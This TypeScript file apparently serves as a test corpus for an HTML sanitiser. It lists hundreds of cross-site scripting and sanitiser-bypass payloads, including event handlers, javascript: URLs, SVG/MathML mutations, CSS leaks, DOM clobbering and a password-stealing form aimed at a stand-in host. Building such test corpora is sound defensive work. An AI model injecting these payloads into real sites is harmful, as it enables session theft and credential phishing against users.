/**
 * Texts that try to run something, to reach another site, or to change the page around them: the families of the published cheat
 * sheets and of what is known of broken sanitisers. What runs calls `pwn()`; what is loaded comes from `elsewhere`.
 */

export const elsewhere = 'https://elsewhere.example';

export type Hostile = { family: string; html: string };

const family = (name: string, ...htmls: string[]): Hostile[] => htmls.map((html) => ({ family: name, html }));
const lines = (name: string, text: string): Hostile[] =>
  family(
    name,
    ...text
      .split('\n')
      .map((line) => line.trim())
      .filter((line) => line !== ''),
  );

const script = lines(
  'script',
  `
  <script>pwn()</script>
  <SCRIPT>pwn()</SCRIPT>
  <script src="${elsewhere}/a.js"></script>
  <script src=//elsewhere.example/a.js>
  <script/src="${elsewhere}/b.js"></script>
  <script type="module">pwn()</script>
  <script type="text/javascript" defer async>pwn()</script>
  <scr<script>ipt>pwn()</scr</script>ipt>
  <<script>pwn();//<</script>
  <script\u000cx>pwn()</script\u000c>
  <script
  <script>pwn()
  <script>/*</p>*/pwn()</script >
  <script>pwn()</script bar>
  <noscript><p title="</noscript><script>pwn()</script>"></noscript>
  <p><script><!--pwn()//--></script></p>
  <script nonce="x" integrity="y">pwn()</script>
  </script><script>pwn()</script>
  <h2>x<script>pwn()</script></h2>
  <script xlink:href="${elsewhere}/c.js"></script>
  `,
);

const handlerNames =
  'load error click mouseover focus focusin blur animationstart animationend transitionend toggle pointerenter beforetoggle wheel scroll input change submit reset drag drop copy paste begin end repeat loadstart canplay timeupdate message hashchange pageshow resize auxclick contextmenu beforematch contentvisibilityautostatechange'.split(
    ' ',
  );
const handlerHosts =
  'img src=x|p tabindex=1 autofocus|a href=# |table|td|figure|details open|video src=x|body|svg'.split('|');
const handlers: Hostile[] = handlerNames.map((name, index) => ({
  family: 'handlers',
  html: `<${handlerHosts[index % handlerHosts.length]} on${name}="pwn()">x`,
}));

const handlerForms = lines(
  'handlers in odd forms',
  `
  <img src=x onerror=pwn()>
  <img src=x onerror='pwn()'>
  <img src=x onerror=\`pwn()\`>
  <img src=x ONERROR=pwn()>
  <img src=x onerror =pwn()>
  <img/src=x/onerror=pwn()>
  <img src=x oneonerrorrror=pwn()>
  <img src=x:x onerror=&#112;&#119;&#110;&#40;&#41;>
  <img src=x onerror="&#x70;wn&lpar;&rpar;">
  <img """><script>pwn()</script>">
  <img src="/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c" onload=pwn()>
  <img src="/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c"onload=pwn() alt="a>
  <img src='/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c' alt='"><img src=x onerror=pwn()>'>
  <a href="https://a.example/" onclick="pwn()" autofocus onfocus="pwn()" tabindex=0>x</a>
  <a href="x" title='"><img src=x onerror=pwn()>'>x</a>
  <input autofocus onfocus=pwn()>
  <select autofocus onfocus=pwn()><option>x</select>
  <textarea autofocus onfocus=pwn()>x</textarea>
  <button popovertarget=x>y</button><p popover id=x onbeforetoggle=pwn()>z
  <marquee onstart=pwn()>x</marquee>
  <video><source onerror="pwn()"></video>
  <audio src onerror=pwn()>
  <details open ontoggle=pwn()><summary>x</summary></details>
  <dialog open onclose=pwn()>x</dialog>
  <body onload=pwn()>
  <p style="animation:x" onanimationstart=pwn()>x<style>@keyframes x{}</style>
  <xss id=x tabindex=1 onfocus=pwn() style="display:block">x</xss>
  <custom-element onpointerrawupdate=pwn()>x</custom-element>
  `,
);

const schemes = lines(
  'addresses that run',
  `
  <a href="javascript:pwn()">x</a>
  <a href="JaVaScRiPt:pwn()">x</a>
  <a href=" javascript:pwn()">x</a>
  <a href="\u0001javascript:pwn()">x</a>
  <a href="\u001fjavascript:pwn()">x</a>
  <a href="java\tscript:pwn()">x</a>
  <a href="java&#9;script:pwn()">x</a>
  <a href="java&#10;script:pwn()">x</a>
  <a href="java&NewLine;script&colon;pwn()">x</a>
  <a href="java&Tab;script:pwn()">x</a>
  <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwn()">x</a>
  <a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;pwn()">x</a>
  <a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058pwn()">x</a>
  <a href="javascript&colon;pwn()">x</a>
  <a href="javascript&#58;pwn()">x</a>
  <a href="javascript&#x3a;pwn()">x</a>
  <a href="javascript&#0;:pwn()">x</a>
  <a href="java\u00adscript:pwn()">x</a>
  <a href="java\u200bscript:pwn()">x</a>
  <a href="\ufeffjavascript:pwn()">x</a>
  <a href="javascript://%0apwn()">x</a>
  <a href="javascript:/*--></title></style></textarea></script><svg/onload=pwn()>//">x</a>
  <a href="vbscript:msgbox(1)">x</a>
  <a href="livescript:pwn()">x</a>
  <a href="mocha:pwn()">x</a>
  <a href="data:text/html,<script>pwn()</script>">x</a>
  <a href="data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==">x</a>
  <a href="DATA:text/html;charset=utf-8,%3Cscript%3Epwn()%3C/script%3E">x</a>
  <a href="blob:https://a.example/x">x</a>
  <a href="filesystem:https://a.example/x">x</a>
  <a href="view-source:javascript:pwn()">x</a>
  <a href="feed:javascript:pwn()">x</a>
  <a href="jar:javascript:pwn()!/">x</a>
  <a href="file:///etc/passwd">x</a>
  <a href="intent://x#Intent;scheme=https;end">x</a>
  <a href="ms-msdt:/id x">x</a>
  <a href="//elsewhere.example/">x</a>
  <a href="\\\\elsewhere.example\\">x</a>
  <a href="/\\elsewhere.example">x</a>
  <a href='javascript:pwn()' rel=noopener target=_self>x</a>
  <a href=javascript:pwn()>x</a>
  <a href="x" href="javascript:pwn()">x</a>
  <a xlink:href="javascript:pwn()">x</a>
  <a ping="${elsewhere}/ping" href="https://a.example/">x</a>
  <a href="https://a.example/" target="_blank" rel="opener" download referrerpolicy="unsafe-url">x</a>
  <area href="javascript:pwn()">
  <form action="javascript:pwn()"><button>x</button></form>
  <button formaction="javascript:pwn()">x</button>
  <img src="javascript:pwn()">
  <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>">
  <img dynsrc="javascript:pwn()" lowsrc="javascript:pwn()">
  <table background="javascript:pwn()"><td background="${elsewhere}/t.png">x
  <blockquote cite="javascript:pwn()">x</blockquote>
  <input type=image src="${elsewhere}/i.png" formaction="javascript:pwn()">
  `,
);

const foreign = lines(
  'SVG and MathML',
  `
  <svg onload=pwn()>
  <svg/onload=pwn()//
  <svg><script>pwn()</script></svg>
  <svg><script href="${elsewhere}/s.js" /></svg>
  <svg><script xlink:href="data:,pwn()" /></svg>
  <svg><a xlink:href="javascript:pwn()"><text x=20 y=20>x</text></a></svg>
  <svg><a><animate attributeName=href values="javascript:pwn()" /><text x=20 y=20>x</text></a></svg>
  <svg><animate onbegin=pwn() attributeName=x dur=1s>
  <svg><set attributeName="onmouseover" to="pwn()" /></svg>
  <svg><foreignObject><iframe srcdoc="<script>parent.pwn()</script>"></iframe></foreignObject></svg>
  <svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='pwn()' /></svg>#x" /></svg>
  <svg><use xlink:href="${elsewhere}/u.svg#x" /></svg>
  <svg><image href="${elsewhere}/i.png" onerror=pwn() /></svg>
  <svg><feImage href="${elsewhere}/f.png" /></svg>
  <svg><style>@import url(${elsewhere}/s.css);</style></svg>
  <svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">pwn()</handler></svg>
  <svg xmlns="http://www.w3.org/2000/svg"><![CDATA[<script>pwn()</script>]]></svg>
  <svg><desc><![CDATA[</desc><script>pwn()</script>]]></desc></svg>
  <svg><title><img src=x onerror=pwn()></title></svg>
  <math href="javascript:pwn()">x</math>
  <math><maction actiontype="statusline#${elsewhere}" xlink:href="javascript:pwn()">x</maction></math>
  <math><annotation-xml encoding="text/html"><img src=x onerror=pwn()></annotation-xml></math>
  <math><mi xlink:href="data:x,<script>pwn()</script>">x</mi></math>
  `,
);

const mutations = lines(
  'mutations',
  `
  <noscript><p title="</noscript><img src=x onerror=pwn()>">
  <noscript><style></noscript><img src=x onerror=pwn()></style></noscript>
  <svg></p><style><a id="</style><img src=1 onerror=pwn()>">
  <svg><p><style><g title="</style><img src onerror=pwn()>">
  <svg><style><img src="</style><img src=x onerror=pwn()//">
  <svg><style>&lt;img src=x onerror=pwn()&gt;</style></svg>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">
  <math><mtext><mglyph><style><img src=x onerror=pwn()></style></mglyph></mtext></math>
  <form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>
  <math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='pwn()'>">
  <form id=a><form id=b><input name=attributes><img src=x onerror=pwn()></form></form>
  <div><svg><style><!--</style><!--><img src=x onerror=pwn()>--></style></svg></div>
  <template><img src=x onerror=pwn()></template>
  <template><script>pwn()</script></template><p>x</p>
  <div><template shadowrootmode=open><img src=x onerror=pwn()></template></div>
  <select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=pwn()>">x</a>
  <xmp><p title="</xmp><img src=x onerror=pwn()>">
  <noembed><img title="</noembed><img src onerror=pwn()>"></noembed>
  <noframes><p id="</noframes><svg onload=pwn()>"></noframes>
  <textarea><p title="</textarea><img src=x onerror=pwn()>"></textarea>
  <title><p title="</title><img src=x onerror=pwn()>"></title>
  <iframe><p title="</iframe><img src=x onerror=pwn()>"></iframe>
  <plaintext><img src=x onerror=pwn()>
  <listing>&lt;img src=x onerror=pwn()&gt;</listing>
  <style><style/><img src=x onerror=pwn()>
  <style><a title="</style><img src=x onerror=pwn()>"></a>
  <!--><img src=x onerror=pwn()>-->
  <!---><img src=x onerror=pwn()>-->
  <!--x--!><img src=x onerror=pwn()>-->
  <!-- --><img src=x onerror=pwn()><!-- -->
  <!--[if IE]><script>pwn()</script><![endif]-->
  <![CDATA[<img src=x onerror=pwn()>]]>
  <?xml version="1.0"?><?import x><img src=x onerror=pwn()>
  <!doctype html [<!entity x "<script>pwn()</script>">]>&x;
  <table><caption><svg><title><style><a id="</style></title><img src=x onerror=pwn()>"></table>
  <table><tr><td><table><td><img src=x onerror=pwn()><td></table>
  <a title="&lt;img src=x onerror=pwn()&gt;">&lt;img src=x onerror=pwn()&gt;</a>
  <p>&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;</p>
  &lt;script&gt;pwn()&lt;/script&gt;
  <listing><!--</listing><img src=x onerror=pwn()>-->
  <p><![if !supportLists]><img src=x onerror=pwn()><![endif]></p>
  <p style="mso-list:l0 level1"><![if !supportLists]><script><![endif]>pwn()</script></p><p style="mso-list:l0 level2">a</p>
  <iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="pwn()" srcdoc="<script>parent.pwn()</script>"></iframe>
  <iframe src='https://www.youtube.com/embed/"><img src=x onerror=pwn()>'></iframe>
  <figure class="video"><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ"><img src=x onerror=pwn()></a></figure>
  <figure class="video"><a href="javascript:pwn()//youtu.be/dQw4w9WgXcQ">x</a></figure>
  <div<div>><img src=x onerror=pwn()></div>
  <div><div title="</div><img src=x onerror=pwn()>"></div></div>
  `,
);

const styles = lines(
  'CSS',
  `
  <p style="background:url(javascript:pwn())">x</p>
  <p style="background:url(${elsewhere}/p.png)">x</p>
  <p style="width:expression(pwn())">x</p>
  <p style="xss:expr/**/ession(pwn())">x</p>
  <p style="behavior:url(${elsewhere}/x.htc)">x</p>
  <p style="-moz-binding:url(${elsewhere}/x.xml#x)">x</p>
  <p style="position:fixed;inset:0;z-index:99999">Sign in again</p>
  <p style="font-weight:700;background:url(${elsewhere}/w.png)">x</p>
  <span style="font-style:italic" onclick="pwn()">x</span>
  <style>*{background:url(${elsewhere}/all.png)}</style>
  <style>@import "${elsewhere}/i.css";</style>
  <style>input[value^=a]{background:url(${elsewhere}/leak)}</style>
  <style>@font-face{font-family:x;src:url(${elsewhere}/f.woff)}</style>
  <link rel=stylesheet href="${elsewhere}/l.css">
  <link rel=preload as=image href="${elsewhere}/pre.png">
  <link rel="stylesheet" href="javascript:pwn()">
  <p class="admin-only modal-backdrop" id="root">x</p>
  `,
);

const documents = lines(
  'elements that load or lead away',
  `
  <meta http-equiv=refresh content="0;url=${elsewhere}/">
  <meta http-equiv="refresh" content="0;url=javascript:pwn()">
  <meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==">
  <meta http-equiv="Set-Cookie" content="a=b">
  <meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">
  <meta charset="utf-7">
  <base href="${elsewhere}/">
  <base target="_top">
  <iframe src="javascript:pwn()"></iframe>
  <iframe srcdoc="<script>parent.pwn()</script>"></iframe>
  <iframe src="${elsewhere}/frame"></iframe>
  <frameset onload=pwn()><frame src="javascript:pwn()"></frameset>
  <object data="javascript:pwn()"></object>
  <object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4="></object>
  <object classid="clsid:x"><param name=url value="${elsewhere}/o"></object>
  <embed src="${elsewhere}/e.swf" allowscriptaccess=always>
  <embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwn()'/>">
  <applet code="x" archive="${elsewhere}/a.jar"></applet>
  <portal src="${elsewhere}/"></portal>
  <img src="${elsewhere}/img.png">
  <img srcset="${elsewhere}/set.png 1x" src="/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c">
  <img src="/pictures/text/../../api/v1/me">
  <img src="/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c?x=${elsewhere}">
  <picture><source srcset="${elsewhere}/source.png"><img src=x></picture>
  <video src="${elsewhere}/v.mp4" poster="${elsewhere}/poster.png" autoplay></video>
  <audio src="${elsewhere}/a.mp3" autoplay></audio>
  <track src="${elsewhere}/t.vtt">
  <form action="${elsewhere}/steal" method=post><input name=password><button>Sign in</button></form>
  <isindex action="javascript:pwn()" type=image>
  <bgsound src="javascript:pwn()">
  <layer src="${elsewhere}/l.html"></layer>
  <xml id=x src="${elsewhere}/x.xml"></xml>
  <fencedframe src="${elsewhere}/"></fencedframe>
  <script type="speculationrules">{"prefetch":[{"urls":["${elsewhere}/"]}]}</script>
  <script type="importmap">{"imports":{"x":"${elsewhere}/x.js"}}</script>
  `,
);

const clobbering = lines(
  'names that stand in the way of a script',
  `
  <img name=body><img id=cookie>
  <form name=getElementById><input id=children></form>
  <a id=config><a id=config name=url href="${elsewhere}/c">x</a>
  <p id=__proto__ name=constructor>x</p>
  <iframe name=self srcdoc="<a id=location>"></iframe>
  <form id=document><input name=parentNode><input name=nodeName></form>
  <img name=pwn>
  <h2 id="main" is="x-y" slot="z" part="q" itemscope data-action="pwn" contenteditable>x</h2>
  `,
);

const malformed: Hostile[] = [
  ...lines(
    'malformed',
    `
  <img src=x onerror=pwn()
  <img src="x" onerror="pwn()" <p>x
  <p/onclick=pwn()>x
  <p title=x\u0000onclick=pwn()>x
  <p "onclick=pwn() x=">x
  <p =onclick=pwn()>x
  <p title="a"onclick="pwn()">x
  <p a='"' onclick='pwn()' b='"'>x</p>
  <p\u00a0onclick=pwn()>x
  <p\u3000onclick=pwn()>x
  <p\u2028onclick=pwn()>x
  <\u0000script>pwn()</script>
  <scr\u0000ipt>pwn()</scr\u0000ipt>
  <im\u0000g src=x onerror=pwn()>
  <img src=x on\u0000error=pwn()>
  \u0000<img src=x onerror=pwn()>
  < script>pwn()</ script>
  <a href="https://a.example/" "onclick=pwn()">x</a>
  <a href="https://a.example/'onclick='pwn()">x</a>
  <a href='https://a.example/"onclick="pwn()'>x</a>
  <a href=https://a.example/\`onclick=pwn()>x</a>
  <code class="language-x onclick=pwn()">x</code>
  <code class='language-"><img src=x onerror=pwn()>'>x</code>
  <td colspan="1 onclick=pwn()">x</td>
  <ol start="1;pwn()"><li>x</ol>
  <th scope="row onclick=pwn()">x</th>
  </p><img src=x onerror=pwn()></p>
  </><img src=x onerror=pwn()>
  </\u0000><img src=x onerror=pwn()>
  <img alt="&quot; onerror=&quot;pwn()" src=/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c>
  <img alt='" onload="pwn()' src=/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c>
  <img alt="\`onload=pwn()//" src=/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c>
  &lt;img src=x onerror=pwn()>
  &#60;script&#62;pwn()&#60;/script&#62;
  &#x3c;img src=x onerror=pwn()&#x3e;
  &ltscript&gtpwn()&lt/script&gt
  \\u003cscript\\u003epwn()\\u003c/script\\u003e
  %3Cscript%3Epwn()%3C/script%3E
  +ADw-script+AD4-pwn()+ADw-/script+AD4-
  +ADw-img src=x onerror=pwn()+AD4-
  \uff1cscript\uff1epwn()\uff1c/script\uff1e
  \u2039script\u203apwn()\u2039/script\u203a
  \u00bcscript\u00bepwn()\u00bc/script\u00be
  {{constructor.constructor('pwn()')()}}
  \${pwn()}
  <%= pwn() %>
  `,
  ),
  { family: 'malformed', html: `${'<p>'.repeat(300)}<img src=x onerror=pwn()>` },
  { family: 'malformed', html: `${'<blockquote><ul><li>'.repeat(200)}<script>pwn()</script>` },
  { family: 'malformed', html: `<p title="${'x'.repeat(70_000)}" onclick=pwn()>x</p>` },
];

const polyglots = family(
  'polyglots',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=pwn() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwn()//>\\x3e',
  '\'">><marquee><img src=x onerror=pwn()></marquee>"></plaintext\\></|\\><plaintext/onmouseover=pwn()><script>pwn()</script>@gmail.com<isindex formaction=javascript:pwn() type=submit>\'-->"></script><script>pwn()</script>">',
  '--></script></title></style></textarea></noscript></template></select>"\'><img src=x onerror=pwn()>',
  '"onclick=pwn()//<button \' onclick=pwn()//> */ pwn()//',
  '\';pwn()//\\\';pwn()//";pwn()//\\";pwn()//--></script>">\'><script>pwn()</script>=&{}',
  ']]></content:encoded></item><script>pwn()</script><![CDATA[',
  '</pre></code></td></tr></table></li></ul></blockquote><img src=x onerror=pwn()>',
);

/** All of them, each with its family. */
export const hostileHtml: readonly Hostile[] = [
  ...script,
  ...handlers,
  ...handlerForms,
  ...schemes,
  ...foreign,
  ...mutations,
  ...styles,
  ...documents,
  ...clobbering,
  ...malformed,
  ...polyglots,
];
